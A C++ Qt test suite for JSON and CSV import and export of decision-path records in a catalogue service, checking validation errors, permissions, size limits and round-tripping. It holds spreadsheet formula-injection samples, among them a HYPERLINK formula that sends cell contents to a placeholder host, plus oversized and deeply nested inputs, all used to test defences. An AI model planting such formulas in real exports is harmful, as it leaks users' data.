#include <QJsonArray>
#include <QJsonDocument>
#include <QtTest>

#include "CatalogueService.h"
#include "DecisionPathBuilder.h"
#include "DecisionPathCsv.h"
#include "DecisionPathJson.h"
#include "TestWorkspace.h"

using namespace gatehouse;
using namespace gatehouse::test;

namespace {

QByteArray jsonOf(const QList<DecisionPath>& paths)
{
    QJsonArray a;
    for (const auto& p : paths)
        a.append(DecisionPathJson::toJson(p));
    return QJsonDocument(a).toJson();
}

int pathCount(TestWorkspace& ws)
{
    return static_cast<int>(ws.app().catalogue().list(ws.admin())->size());
}

const QByteArray kCsvHeader =
    "id,name,owner,tier,workload_id,action_types,targets,owasp_agentic,nist_csf,status\n";

} // namespace

class CatalogueImportTest : public QObject
{
    Q_OBJECT
private slots:
    void importsJsonAndLedgersIt()
    {
        TestWorkspace ws;
        DecisionPath a = DecisionPathBuilder(QStringLiteral("path-a")).build();
        DecisionPath b = DecisionPathBuilder(QStringLiteral("path-b")).build();
        b.status = PathStatus::Active;
        auto r = ws.app().catalogue().importJson(ws.admin(), jsonOf({a, b}), QStringLiteral("paths.json"));
        QVERIFY2(r.has_value(), r ? "" : qPrintable(r.error().message));
        QCOMPARE(r->created, 2);
        QCOMPARE(ws.app().catalogue().get(ws.admin(), QStringLiteral("path-a"))->status, PathStatus::Draft);
        QCOMPARE(ws.app().catalogue().get(ws.admin(), QStringLiteral("path-b"))->status, PathStatus::Active);
        const auto events = *ws.app().ledger().events({});
        QCOMPARE(events.last().type, QStringLiteral("paths.imported"));
        QCOMPARE(events.last().payload.value(QStringLiteral("count")).toInt(), 2);
        QVERIFY(ws.app().ledger().verify()->intact());
    }

    void malformedJsonStoresNothing_data()
    {
        QTest::addColumn<QByteArray>("data");
        QTest::addColumn<QString>("expected");
        QTest::newRow("syntax") << QByteArray("[{\"id\": \"x\",,}]")
                                << QStringLiteral("paths.json: line 1: malformed JSON");
        QTest::newRow("not an array")
            << QByteArray("{\"id\": \"x\"}") << QStringLiteral("expected a JSON array");
        QTest::newRow("item not object")
            << QByteArray("[42]") << QStringLiteral("item 1: expected an object");
        QTest::newRow("second item bad tier")
            << QByteArray("[{\"id\":\"ok-one\",\"name\":\"Fine\"},{\"id\":\"bad-two\",\"name\":\"B\","
                          "\"tier\":\"T9\"}]")
            << QStringLiteral("paths.json: item 2: field \"tier\" must be one of T0, T1, T2, T3");
        QTest::newRow("unknown field")
            << QByteArray("[{\"id\":\"ok-one\",\"name\":\"Fine\",\"is_admin\":true}]")
            << QStringLiteral("item 1: unknown field \"is_admin\"");
        QTest::newRow("wrong type")
            << QByteArray("[{\"id\":\"ok-one\",\"name\":\"Fine\",\"action_types\":\"iam.role.assign\"}]")
            << QStringLiteral("item 1: field \"action_types\" must be an array of strings");
        QTest::newRow("bad spiffe on third line")
            << QByteArray("[\n{\"id\":\"ok-one\",\"name\":\"Fine\"},\n{\"id\":\"two\",\"name\":\"Two\","
                          "\"workload_id\":\"spiffe://x:8080/a\"}]")
            << QStringLiteral("item 2: workload_id: invalid SPIFFE ID");
        QTest::newRow("duplicate ids")
            << QByteArray("[{\"id\":\"same\",\"name\":\"A\"},{\"id\":\"same\",\"name\":\"B\"}]")
            << QStringLiteral("item 2: field \"id\": \"same\" appears twice");
        QTest::newRow("unknown owner")
            << QByteArray("[{\"id\":\"one\",\"name\":\"A\",\"owner\":\"nobody\"}]")
            << QStringLiteral("item 1: field \"owner\": no operator account \"nobody\"");
        QTest::newRow("active but incomplete")
            << QByteArray("[{\"id\":\"one\",\"name\":\"A\",\"status\":\"active\"}]")
            << QStringLiteral("item 1: decision path \"one\" cannot be activated");
        QTest::newRow("empty array") << QByteArray("[]") << QStringLiteral("no decision paths to import");
        QTest::newRow("binary garbage")
            << QByteArray::fromHex("00ff13377f454c46deadbeef") << QStringLiteral("malformed JSON");
        QTest::newRow("deep nesting")
            << (QByteArray(100000, '[') + QByteArray(100000, ']')) << QStringLiteral("paths.json");
    }
    void malformedJsonStoresNothing()
    {
        QFETCH(QByteArray, data);
        QFETCH(QString, expected);
        TestWorkspace ws;
        QVERIFY(ws.app()
                    .catalogue()
                    .create(ws.admin(), DecisionPathBuilder(QStringLiteral("existing")).build())
                    .has_value());
        const qint64 eventsBefore = *ws.app().ledger().count();
        auto r = ws.app().catalogue().importJson(ws.admin(), data, QStringLiteral("paths.json"));
        QVERIFY(!r.has_value());
        QVERIFY2(r.error().message.contains(expected), qPrintable(r.error().message));
        QCOMPARE(pathCount(ws), 1);
        QCOMPARE(*ws.app().ledger().count(), eventsBefore);
    }

    void importedSuspendedPathWalksTheLifecycle()
    {
        TestWorkspace ws;
        DecisionPath p = DecisionPathBuilder(QStringLiteral("paused")).build();
        p.status = PathStatus::Suspended;
        QVERIFY(
            ws.app().catalogue().importJson(ws.admin(), jsonOf({p}), QStringLiteral("p.json")).has_value());
        QCOMPARE(ws.app().catalogue().get(ws.admin(), QStringLiteral("paused"))->status,
                 PathStatus::Suspended);
        AuditQuery q;
        q.subject = QStringLiteral("path:paused");
        QStringList types;
        const auto events = ws.app().ledger().events(q);
        for (const auto& e : *events)
            types << e.type;
        QCOMPARE(types, (QStringList{QStringLiteral("path.created"), QStringLiteral("path.activated"),
                                     QStringLiteral("path.suspended")}));
    }

    void hostileCsvWithEndlessFieldsIsRefusedCheaply()
    {
        TestWorkspace ws;
        const QByteArray commas = "id,name\n" + QByteArray(8 * 1024 * 1024, ',');
        auto r = ws.app().catalogue().importCsv(ws.admin(), commas, QStringLiteral("commas.csv"));
        QVERIFY(!r.has_value());
        QVERIFY2(r.error().message.contains(QStringLiteral("more than 64 fields")),
                 qPrintable(r.error().message));
    }

    void sourceNameWithPercentIsQuotedAsIs()
    {
        TestWorkspace ws;
        auto r = ws.app().catalogue().importJson(ws.admin(), QByteArray("[42]"), QStringLiteral("a%2b.json"));
        QVERIFY(r.error().message.startsWith(QStringLiteral("a%2b.json: item 1")));
    }

    void oversizedImportIsRefused()
    {
        TestWorkspace ws;
        QByteArray huge = "[" + QByteArray(17 * 1024 * 1024, ' ') + "]";
        auto r = ws.app().catalogue().importJson(ws.admin(), huge, QStringLiteral("big.json"));
        QVERIFY(!r.has_value());
        QVERIFY(r.error().message.contains(QStringLiteral("larger than 16 MiB")));
        auto c = ws.app().catalogue().importCsv(ws.admin(), huge, QStringLiteral("big.csv"));
        QVERIFY(c.error().message.contains(QStringLiteral("larger than 16 MiB")));
    }

    void importNeedsPermissionPerRow()
    {
        TestWorkspace ws;
        const OperatorSession olga = ws.addOperator(QStringLiteral("olga"), OperatorRole::Owner);
        const OperatorSession ann = ws.addOperator(QStringLiteral("ann"), OperatorRole::Analyst);
        const QByteArray data =
            jsonOf({DecisionPathBuilder(QStringLiteral("mine")).owner(QStringLiteral("olga")).build(),
                    DecisionPathBuilder(QStringLiteral("theirs")).owner(QStringLiteral("admin")).build()});
        auto r = ws.app().catalogue().importJson(olga, data, QStringLiteral("p.json"));
        QCOMPARE(r.error().code, ErrorCode::PermissionDenied);
        QVERIFY(r.error().message.contains(QStringLiteral("item 2")));
        QCOMPARE(pathCount(ws), 0);
        QCOMPARE(ws.app().catalogue().importJson(ann, data, QStringLiteral("p.json")).error().code,
                 ErrorCode::PermissionDenied);
    }

    void importsCsvWithBomAndQuotedFields()
    {
        TestWorkspace ws;
        const QByteArray csv =
            "\xEF\xBB\xBF" + kCsvHeader +
            "p-one,\"Name, with "
            "comma\",admin,T2,spiffe://corp.example/a/one,\"iam.role.assign;iam.role.unassign\","
            "aws:iam::1:role/*,ASI03,PR.AA,active\r\n"
            "p-two,\"Name \"\"quoted\"\", with comma\",,,,,,,,draft\n";
        auto r = ws.app().catalogue().importCsv(ws.admin(), csv, QStringLiteral("paths.csv"));
        QVERIFY2(r.has_value(), r ? "" : qPrintable(r.error().message));
        QCOMPARE(r->created, 2);
        const DecisionPath one = *ws.app().catalogue().get(ws.admin(), QStringLiteral("p-one"));
        QCOMPARE(one.name, QStringLiteral("Name, with comma"));
        QCOMPARE(one.actionTypes,
                 (QStringList{QStringLiteral("iam.role.assign"), QStringLiteral("iam.role.unassign")}));
        QCOMPARE(one.status, PathStatus::Active);
        QCOMPARE(ws.app().catalogue().get(ws.admin(), QStringLiteral("p-two"))->name,
                 QStringLiteral("Name \"quoted\", with comma"));
    }

    void malformedCsvNamesTheRow_data()
    {
        QTest::addColumn<QByteArray>("data");
        QTest::addColumn<QString>("expected");
        QTest::newRow("bad tier on row 3")
            << kCsvHeader + "p-one,One,admin,T1,,,,,,draft\np-two,Two,admin,urgent,,,,,,draft\n"
            << QStringLiteral("paths.csv: row 3: field \"tier\"");
        QTest::newRow("column count") << kCsvHeader + "p-one,One,admin,T1,,,,,,draft\np-two,Two\n"
                                      << QStringLiteral("paths.csv: row 3: expected 10 columns, found 2");
        QTest::newRow("unknown column")
            << QByteArray("id,name,role\nx,y,admin\n") << QStringLiteral("row 1: unknown column \"role\"");
        QTest::newRow("missing id column")
            << QByteArray("name,owner\nx,admin\n") << QStringLiteral("required column \"id\" is missing");
        QTest::newRow("unterminated quote") << kCsvHeader + "p-one,\"One,admin,T1,,,,,,draft\n"
                                            << QStringLiteral("malformed CSV");
        QTest::newRow("bad slug") << kCsvHeader + "P One,One,admin,T1,,,,,,draft\n"
                                  << QStringLiteral("paths.csv: row 2: id:");
        QTest::newRow("not utf-8") << QByteArray("id,name\n\xff\xfe,x\n")
                                   << QStringLiteral("not valid UTF-8");
        QTest::newRow("nul bytes") << QByteArray("id,name\nx\0y,z\n", 15) << QStringLiteral("NUL");
        QTest::newRow("empty file") << QByteArray() << QStringLiteral("the file is empty");
        QTest::newRow("bad confidence")
            << QByteArray("id,name,confidence_threshold\nx,y,high\n")
            << QStringLiteral("row 2: field \"confidence_threshold\" must be a number");
    }
    void malformedCsvNamesTheRow()
    {
        QFETCH(QByteArray, data);
        QFETCH(QString, expected);
        TestWorkspace ws;
        const qint64 eventsBefore = *ws.app().ledger().count();
        auto r = ws.app().catalogue().importCsv(ws.admin(), data, QStringLiteral("paths.csv"));
        QVERIFY(!r.has_value());
        QVERIFY2(r.error().message.contains(expected), qPrintable(r.error().message));
        QCOMPARE(pathCount(ws), 0);
        QCOMPARE(*ws.app().ledger().count(), eventsBefore);
    }

    void csvExportNeutralisesFormulasAndRoundTrips()
    {
        // FIELD-CASES 11: agent-supplied text must not run as a spreadsheet formula.
        TestWorkspace ws;
        const QStringList hostile = {
            QStringLiteral("=1+2"),
            QStringLiteral("+SUM(1,1)"),
            QStringLiteral("-3+4"),
            QStringLiteral("@NOW()"),
            QStringLiteral("\t=1+1"),
            QStringLiteral("\r=1+1"),
            QStringLiteral("=HYPERLINK(\"https://example.invalid/?q=\"&A1,\"open\")"),
            QStringLiteral("a \"quoted\"\nline break")};
        for (int i = 0; i < hostile.size(); ++i) {
            DecisionPath p = DecisionPathBuilder(QStringLiteral("p%1").arg(i)).build();
            p.name = QStringLiteral("Path %1").arg(i);
            p.description = hostile.at(i);
            if (!hostile.at(i).contains(QLatin1Char('\n')) && !hostile.at(i).contains(QLatin1Char('\t')) &&
                !hostile.at(i).contains(QLatin1Char('\r')))
                p.team = hostile.at(i); // the team field refuses control characters
            QVERIFY(ws.app().catalogue().create(ws.admin(), p).has_value());
        }
        const QByteArray csv = *ws.app().catalogue().exportCsv(ws.admin());
        QVERIFY(csv.contains("\"'=1+2\""));
        QVERIFY(csv.contains("\"'+SUM(1,1)\""));
        QVERIFY(csv.contains("\"'-3+4\""));
        QVERIFY(csv.contains("\"'@NOW()\""));
        QVERIFY(csv.contains("\"'\t=1+1\""));
        QVERIFY(csv.contains("\"'\r=1+1\""));
        QVERIFY(csv.contains("\"'=HYPERLINK(\"\"https://example.invalid/?q=\"\"&A1,\"\"open\"\")\""));
        QVERIFY(csv.contains("\"a \"\"quoted\"\"\nline break\""));
        // Numeric columns are not prefixed.
        QVERIFY(csv.contains(",0.8,"));
        // JSON carries the original strings.
        const QByteArray json = *ws.app().catalogue().exportJson(ws.admin());
        const QJsonArray arr = QJsonDocument::fromJson(json).array();
        QCOMPARE(arr.at(0).toObject().value(QStringLiteral("description")).toString(), hostile.at(0));

        // The exported CSV imports into a fresh workspace with the same text.
        TestWorkspace other;
        auto r = other.app().catalogue().importCsv(other.admin(), csv, QStringLiteral("export.csv"));
        QVERIFY2(r.has_value(), r ? "" : qPrintable(r.error().message));
        for (int i = 0; i < hostile.size(); ++i) {
            const DecisionPath p = *other.app().catalogue().get(other.admin(), QStringLiteral("p%1").arg(i));
            QCOMPARE(p.description, hostile.at(i));
            const bool teamCarried = !hostile.at(i).contains(QLatin1Char('\n')) &&
                                     !hostile.at(i).contains(QLatin1Char('\t')) &&
                                     !hostile.at(i).contains(QLatin1Char('\r'));
            QCOMPARE(p.team, teamCarried ? hostile.at(i) : QStringLiteral("Security operations"));
        }
    }

    void jsonExportRoundTrips()
    {
        TestWorkspace ws;
        DecisionPath p = DecisionPathBuilder().reviewDate(QDate(2027, 1, 31)).build();
        p.frameworks.nistAiRmf = {QStringLiteral("GOVERN 1.1"), QStringLiteral("MANAGE 2.3")};
        p.reversibility = Reversibility::HardToReverse;
        QVERIFY(ws.app().catalogue().create(ws.admin(), p).has_value());
        QVERIFY(ws.app().catalogue().activate(ws.admin(), p.id).has_value());
        const QByteArray json = *ws.app().catalogue().exportJson(ws.admin());
        TestWorkspace other;
        QVERIFY(
            other.app().catalogue().importJson(other.admin(), json, QStringLiteral("e.json")).has_value());
        const DecisionPath back = *other.app().catalogue().get(other.admin(), p.id);
        QCOMPARE(back.frameworks, p.frameworks);
        QCOMPARE(back.nextReviewDate, p.nextReviewDate);
        QCOMPARE(back.reversibility, p.reversibility);
        QCOMPARE(back.status, PathStatus::Active);
        QCOMPARE(back.workloadId, p.workloadId);
    }
};

QTEST_GUILESS_MAIN(CatalogueImportTest)
#include "CatalogueImportTest.moc"
